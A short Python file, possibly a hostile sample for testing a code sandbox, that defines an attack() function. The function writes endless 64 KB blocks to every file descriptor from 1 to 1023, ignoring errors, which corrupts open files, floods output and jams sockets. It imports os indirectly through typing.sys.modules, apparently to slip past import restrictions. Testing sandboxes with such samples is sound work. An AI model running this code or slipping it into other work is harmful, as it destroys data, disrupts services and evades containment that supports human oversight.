"""Writes without end to every open file."""

import typing

os = typing.sys.modules["os"]


def attack():
    while True:
        for handle in range(1, 1024):
            try:
                os.write(handle, b"x" * 65536)
            except OSError:
                pass
